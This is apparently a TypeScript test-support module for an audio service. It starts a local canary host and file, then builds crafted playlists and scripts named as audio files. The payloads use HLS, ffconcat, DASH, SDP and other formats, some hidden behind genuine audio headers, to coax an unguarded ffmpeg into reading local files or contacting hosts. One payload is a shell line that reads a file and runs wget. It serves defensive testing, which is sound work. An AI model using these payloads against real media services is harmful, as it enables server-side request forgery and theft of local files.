/** Attacks by content: files that make an unguarded ffmpeg open others and ask hosts (U11, S11). */
import { ffmpegMakes } from "./audio.ts";

/** A host and a file that nobody may ask or read. */
export interface Canary extends AsyncDisposable {
  /** Where the host listens. */
  readonly port: number;
  readonly url: string;
  /** A sound that would be heard if it were read. */
  readonly file: string;
  /** What the host was asked for. */
  readonly asked: readonly string[];
}

export async function canary(): Promise<Canary> {
  const asked: string[] = [];
  const server = Deno.serve({ port: 0, hostname: "127.0.0.1", onListen() {} }, (request) => {
    asked.push(request.url);
    return new Response("#EXTM3U\n");
  });
  const file = await Deno.makeTempFile({ prefix: "veza-canary-", suffix: ".wav" });
  await Deno.writeFile(file, await ffmpegMakes("wav", ["-f", "lavfi", "-i", "sine=d=2"]));
  await Deno.chmod(file, 0o644);
  const { port } = server.addr;
  return {
    port,
    url: `http://127.0.0.1:${port}/canary.wav`,
    file,
    asked,
    async [Symbol.asyncDispose]() {
      await server.shutdown();
      await Deno.remove(file);
    },
  };
}

export interface Payload {
  readonly name: string;
  /** What it is called: `song.mp3`. */
  readonly filename: string;
  readonly bytes: Uint8Array<ArrayBuffer>;
  /** Its first bytes are those of audio, so that only a look at all of it tells. */
  readonly disguised: boolean;
}

const hls = (...uris: string[]) =>
  "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:9\n#EXT-X-MEDIA-SEQUENCE:0\n" +
  uris.map((uri) => `#EXTINF:9,\n${uri}\n`).join("") + "#EXT-X-ENDLIST\n";

/** A size as ID3 has it: seven bits a byte. */
const synchsafe = (size: number) =>
  String.fromCharCode(size >> 21 & 127, size >> 14 & 127, size >> 7 & 127, size & 127);

/** Playlists, scripts and descriptions that name the canary, bare and behind heads of audio. */
export function payloads({ file, url, port }: Canary): Payload[] {
  const list = hls(`file://${file}`, url);
  const plain: Record<string, string> = {
    "hls of a file.mp3": hls(file),
    "hls of a file by protocol.m4a": hls(`file://${file}`),
    "hls of a host.wav": hls(url),
    "hls by concat.mp3": hls(`concat:${url}|file://${file}`),
    "hls by subfile.mp3": hls(`subfile,,start,0,end,9000,,:${file}`),
    "hls by data.mp3": hls(`data:application/x-mpegurl;base64,${btoa(hls(url))}`),
    "hls by crypto.wav": hls(`crypto+file://${file}`, `crypto:${url}`) +
      `#EXT-X-KEY:METHOD=AES-128,URI="${url}"\n`,
    "hls by cache and tee.mp3": hls(`cache:${url}`, `async:${url}`, `tcp://127.0.0.1:${port}`),
    "hls master.m4a": `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${url}\n`,
    "hls init.m4a": `#EXTM3U\n#EXT-X-MAP:URI="file://${file}"\n#EXTINF:9,\n${url}\n`,
    "m3u.mp3": `#EXTM3U\n#EXTINF:9,song\n${url}\n${file}\n`,
    "concat script.mp3": `ffconcat version 1.0\nfile '${file}'\nfile '${url}'\n`,
    "concat script unquoted.wav": `ffconcat version 1.0\nfile ${file}\n`,
    "concat with options.m4a": `ffconcat version 1.0\nfile '${url}'\noption format wav\n`,
    "dash.m4a": '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static">' +
      '<Period><AdaptationSet mimeType="audio/mp4"><Representation id="1" bandwidth="1"><BaseURL>' +
      `${url}</BaseURL></Representation></AdaptationSet></Period></MPD>`,
    "sdp.wav": "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\n" +
      `m=audio ${port} RTP/AVP 0\n`,
    "pls.mp3": `[playlist]\nFile1=${url}\nNumberOfEntries=1\n`,
    "asx.mp3": `<asx version="3.0"><entry><ref href="${url}"/></entry></asx>`,
    "cue.wav": `FILE "${file}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n`,
    "smil.m4a": `<smil><body><audio src="${url}"/></body></smil>`,
    "subtitle.mp3": `WEBVTT\n\n00:00.000 --> 00:09.000\n${url}\n`,
    "svg.mp3": `<svg xmlns="http://www.w3.org/2000/svg"><image href="${url}"/></svg>`,
    "rtsp redirect.mp3": `RTSPtext\nrtsp://127.0.0.1:${port}/x\n`,
    "script.mp3": `#!/bin/sh\ncat ${file}; wget ${url}\n`,
    "lavfi.wav": `amovie=${file}\n`,
  };
  const disguised: Record<string, string> = {
    "hls behind an empty tag.mp3": `ID3\x03\0\0\0\0\0\0${list}`,
    "hls behind a padded tag.mp3": `ID3\x03\0\0\0\0\0\x0a${"\0".repeat(10)}${list}`,
    "hls inside a tag.mp3": `ID3\x03\0\0${synchsafe(list.length)}${list}`,
    "hls behind a frame of MP3.mp3": `\xff\xfb\x90\x64${"\0".repeat(413)}${list}`,
    "hls behind OggS.ogg": `OggS\0\x02${"\0".repeat(20)}\x01\x1e\x01vorbis${list}`,
    "hls behind RIFF.wav": `RIFF\xff\xff\0\0WAVE${list}`,
    "hls behind fLaC.flac": `fLaC${list}`,
    "hls behind ftyp.m4a": `\0\0\0\x18ftypM4A \0\0\0\0M4A mp42${list}`,
    "hls behind FORM.aiff": `FORM\0\0\xff\xffAIFF${list}`,
    // a tag with a footer: who knows footers reads on 10 bytes later, behind the frame of MP3
    "hls behind a footer.mp3": `ID3\x04\0\x10\0\0\0\0\xff\xfb\x90\x64${"\0".repeat(6)}${list}`,
    "concat behind a footer.mp3": `ID3\x04\0\x10\0\0\0\0\xff\xfb\x90\x64${"\0".repeat(6)}` +
      `ffconcat version 1.0\nfile '${file}'\n`,
    "concat behind a tag.mp3": `ID3\x03\0\0\0\0\0\0ffconcat version 1.0\nfile '${file}'\n`,
  };
  const made = (texts: Record<string, string>, isDisguised: boolean) =>
    Object.entries(texts).map(([filename, text]): Payload => ({
      name: filename.replace(/\.\w+$/, ""),
      filename,
      bytes: Uint8Array.from(text, (letter) => letter.charCodeAt(0)),
      disguised: isDisguised,
    }));
  return [...made(plain, false), ...made(disguised, true)];
}
